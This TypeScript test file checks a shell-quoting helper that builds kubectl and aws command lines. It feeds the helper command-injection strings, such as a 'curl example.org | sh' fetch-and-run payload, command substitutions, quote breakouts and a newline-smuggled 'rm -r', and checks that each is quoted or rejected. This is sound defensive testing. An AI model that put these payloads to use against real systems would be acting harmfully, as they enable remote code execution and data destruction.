import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  mkdtempSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { andThen, fixedCommand, shellCommand } from './shellCommand';

let home: string;
beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'commands-'));
  for (const tool of ['kubectl', 'aws']) {
    const path = join(home, tool);
    writeFileSync(path, '#!/bin/sh\nprintf "%s\\0" "$@"\n');
    chmodSync(path, 0o755);
  }
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

/** Runs a command with fake kubectl and aws, which print their arguments. */
function argumentsOf(command: string): string[] {
  const { stdout, status } = spawnSync('/bin/sh', ['-c', command], {
    env: { PATH: home, HOME: home, CANARY: 'leaked' },
    cwd: home,
    encoding: 'utf8',
  });
  expect(status).toBe(0);
  expect(readdirSync(home).sort()).toEqual(['aws', 'kubectl']);
  return stdout.split('\0').slice(0, -1);
}

const attacks = [
  'default; curl example.org | sh #',
  '$(touch canary)',
  '`touch canary`',
  "'; touch canary; '",
  '"; touch canary; "',
  '> canary',
  '$CANARY ${CANARY} ~ * ? [a] {a,b} !! \\',
  "it's",
  'a b',
  'ümläut',
  '#x',
  '&',
];
const value = fc.oneof(
  fc.constantFrom(...attacks),
  fc.string({ unit: 'grapheme', minLength: 1 }),
  fc.string({
    unit: fc.constantFrom(...'\'"`$(){}[]<>|&;*?~!#\\ -=\nab'),
    minLength: 1,
  }),
);

describe('shellCommand', () => {
  it('gives each value to the tool as it is, and runs nothing else', () => {
    fc.assert(
      fc.property(value, value, (name, node) => {
        const command = shellCommand`kubectl get node ${name} --field-selector spec.nodeName=${node} -o jsonpath='{.a}{"\n"}'`;
        fc.pre(command !== undefined);
        expect(argumentsOf(command ?? '')).toEqual([
          'get',
          'node',
          name,
          '--field-selector',
          `spec.nodeName=${node}`,
          '-o',
          'jsonpath={.a}{"\n"}',
        ]);
      }),
      { numRuns: 150 },
    );
  });

  it.each(attacks)('quotes %s', attack => {
    const command = shellCommand`aws ec2 describe-instances ${attack}`;
    expect(argumentsOf(command ?? '')).toEqual([
      'ec2',
      'describe-instances',
      attack,
    ]);
  });

  it('leaves ordinary names readable', () => {
    expect(
      shellCommand`kubectl -n ${'kube-system'} get node ${'ip-10-0-1-7.eu-west-1.compute.internal'} --tail=${50}`,
    ).toBe(
      'kubectl -n kube-system get node ip-10-0-1-7.eu-west-1.compute.internal --tail=50',
    );
  });

  it.each([
    ['a line feed, which a terminal runs at once', 'a\nrm -r x'],
    ['a carriage return', 'a\rb'],
    ['an escape sequence', '\u001b[2J'],
    ['a NUL', 'a\u0000b'],
    ['a C1 control', 'a\u009bb'],
    ['a character that reverses the text direction', 'a\u202eb'],
    ['an invisible character', 'a\u200bb'],
    ['nothing', ''],
    ['an absent value', undefined],
    ['an option', '--all'],
  ])('returns no command for %s', (_, hostile) => {
    expect(shellCommand`kubectl delete pod ${hostile}`).toBeUndefined();
  });

  it('accepts a value that starts with a dash when it is part of a word', () => {
    expect(shellCommand`kubectl get pods -l app=${'-x'}`).toBe(
      'kubectl get pods -l app=-x',
    );
  });

  it('rejects a template that puts a value within quotes', () => {
    expect(() => shellCommand`kubectl get pods "${'a'}"`).toThrow(
      'within quotes',
    );
    expect(() => shellCommand`grep -E '${'a'}|b'`).toThrow('within quotes');
  });

  it('runs one command after another', () => {
    expect(
      argumentsOf(
        andThen(
          fixedCommand`queue=$(kubectl x)`,
          fixedCommand`aws y "$queue" 'z  z'`,
        ),
      ),
    ).toEqual(['y', 'x', 'z  z']);
  });
});
